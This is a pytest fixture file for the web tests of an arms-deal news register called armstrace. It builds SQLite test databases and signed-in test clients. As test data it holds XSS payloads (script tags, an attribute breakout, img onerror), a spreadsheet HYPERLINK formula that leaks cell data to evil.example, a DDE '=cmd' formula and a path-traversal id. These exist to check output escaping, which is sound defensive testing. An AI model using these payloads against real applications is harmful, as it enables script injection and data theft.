"""A real SQLite register for the web tests: the bundled demo sample, the seed article
(when ../shared is present) and one hostile article, ingested as `armstrace ingest` does."""

from __future__ import annotations

import datetime as dt
import json
import re
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from importlib import resources
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from armstrace.ingest import read_path
from armstrace.model import Document, Skipped, make_document_id
from armstrace.pipeline import ingest_documents
from armstrace.review import new_user
from armstrace.store import open_store
from armstrace.web import create_app

SHARED_DATA = Path(__file__).resolve().parents[2].parent / "shared" / "data"
SAMPLE = Path(str(resources.files("armstrace").joinpath("demo_data")))
SEED = SHARED_DATA / "seed" / "turkey-serbia-drones.txt"
SEED_PUBLISHED = dt.date(2024, 10, 11)
SECRET = "test-secret-key-for-signing-sessions"

# Untrusted input: markup in the title and the text, and text that would break out of
# an HTML attribute, around a sentence the extractor turns into a record.
HOSTILE_TITLE = 'Rafale <script>alert("title")</script> deal'
HOSTILE_TEXT = (
    'Serbia ordered 12 Rafale jets from France <script>alert("xss")</script> '
    'in a deal worth " onmouseover="alert(1)" x=" 2.7 billion euros. '
    "The first <img src=x onerror=alert(2)> jets will be delivered in 2028."
)
HOSTILE = Document(
    id=make_document_id(HOSTILE_TEXT),
    text=HOSTILE_TEXT,
    source="tests/web/hostile",
    url='https://example.org/rafale?a=1&b="<x>',
    title=HOSTILE_TITLE,
    published=dt.date(2024, 8, 29),
)


def sample_items() -> Iterator[Document | Skipped]:
    """Yield the bundled demo articles with their publication dates."""
    folder = SAMPLE / "articles"
    dates = json.loads((SAMPLE / "published.json").read_text(encoding="utf-8"))
    for path in sorted(folder.iterdir()):
        if path.name.startswith("."):
            continue
        day = dt.date.fromisoformat(dates[path.name]) if path.name in dates else None
        yield from read_path(path, published=day)


def register_items() -> Iterator[Document | Skipped]:
    """Yield everything the test register holds."""
    yield from sample_items()
    if SEED.is_file():
        yield from read_path(SEED, published=SEED_PUBLISHED)
    yield HOSTILE


def build_register(db: Path, extractor) -> Path:  # noqa: ANN001 - Extractor is imported lazily
    """Ingest the test register into `db`; return its path."""
    with open_store(db) as store:
        ingest_documents(register_items(), store, extractor)
    return db


@pytest.fixture(scope="session")
def register_db(tmp_path_factory: pytest.TempPathFactory, extractor) -> Path:  # noqa: ANN001
    """Return an SQLite file holding the test register (built once per test session)."""
    return build_register(tmp_path_factory.mktemp("web") / "register.db", extractor)


@pytest.fixture
def client(register_db: Path) -> Iterator[TestClient]:
    """Return a client of the web application over the test register, reading open."""
    with TestClient(create_app(str(register_db), secret_key=SECRET)) as test_client:
        yield test_client


ANALYST = "ana"
ANALYST_PASSWORD = "correct horse battery staple"
_CSRF = re.compile(r'name="csrf_token" value="([^"]+)"')


def csrf_of(page: str) -> str:
    """Return the CSRF token in a page's forms."""
    match = _CSRF.search(page)
    assert match, "the page has no form with a CSRF token"
    return match.group(1)


def sign_in(client: TestClient, name: str = ANALYST, password: str = ANALYST_PASSWORD) -> str:
    """Sign in through the form; return the session's CSRF token."""
    token = csrf_of(client.get("/login").text)
    response = client.post("/login", data={"name": name, "password": password,
                                           "csrf_token": token, "next": "/review"})
    assert response.status_code == 200, response.text
    return csrf_of(response.text)


@pytest.fixture(scope="session")
def review_db(tmp_path_factory: pytest.TempPathFactory, register_db: Path) -> Path:
    """Return a register of its own (tests write decisions into it) with one analyst."""
    return copy_register(register_db, tmp_path_factory.mktemp("review") / "register.db")


def copy_register(register_db: Path, db: Path) -> Path:
    """Copy the read-only register to `db` (tests write decisions there), add the analyst."""
    # SQLite's backup API: a consistent copy, WAL included.
    with closing(sqlite3.connect(register_db)) as source, closing(sqlite3.connect(db)) as copy:
        source.backup(copy)
    with open_store(db) as store:
        store.add_user(new_user(ANALYST, ANALYST_PASSWORD))
    return db


@pytest.fixture
def review_client(review_db: Path) -> Iterator[TestClient]:
    """Return a client over the review register, not signed in yet."""
    with TestClient(create_app(str(review_db), secret_key=SECRET)) as test_client:
        yield test_client


# Documents whose id, title and URL an attacker chose (a JSON Lines source gives its own
# ids): a spreadsheet formula, a path out of /documents/, characters that end a path.
FORMULA_ID = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
TRAVERSAL_ID = "../../api/openapi.json"
AWKWARD_ID = "news/2024 10?x=1#top"
CHOSEN_IDS = (FORMULA_ID, TRAVERSAL_ID, AWKWARD_ID)
FORMULA_TITLE = "=cmd|' /C calc'!A0"


def chosen_id_documents() -> Iterator[Document]:
    """Yield one document per chosen id, each with a sentence that gives a record."""
    sentences = ("Serbia ordered 12 Rafale jets from France.",
                 "Poland ordered 48 K9 howitzers from South Korea.",
                 "Egypt received 4 MEKO A-200 frigates from Germany.")
    for document_id, sentence in zip(CHOSEN_IDS, sentences, strict=True):
        yield Document(id=document_id, text=sentence, source="tests/web/chosen-ids",
                       url="+1 555 0100", title=FORMULA_TITLE, published=dt.date(2024, 5, 2))


@pytest.fixture(scope="session")
def chosen_ids_db(tmp_path_factory: pytest.TempPathFactory, extractor) -> Path:  # noqa: ANN001
    """Return a register of the documents with chosen ids, and one analyst."""
    db = tmp_path_factory.mktemp("chosen") / "register.db"
    with open_store(db) as store:
        ingest_documents(chosen_id_documents(), store, extractor)
        store.add_user(new_user(ANALYST, ANALYST_PASSWORD))
    return db
